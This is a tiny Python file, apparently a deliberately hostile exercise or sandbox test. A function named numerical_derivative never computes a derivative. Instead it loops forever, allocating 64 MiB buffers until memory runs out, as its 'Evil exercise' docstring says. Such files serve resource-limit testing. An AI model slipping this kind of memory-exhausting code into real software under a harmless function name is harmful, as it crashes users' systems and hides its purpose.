"""Evil exercise 1.1: allocates and touches memory until none is left."""


def numerical_derivative(f, x, h=1e-5):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
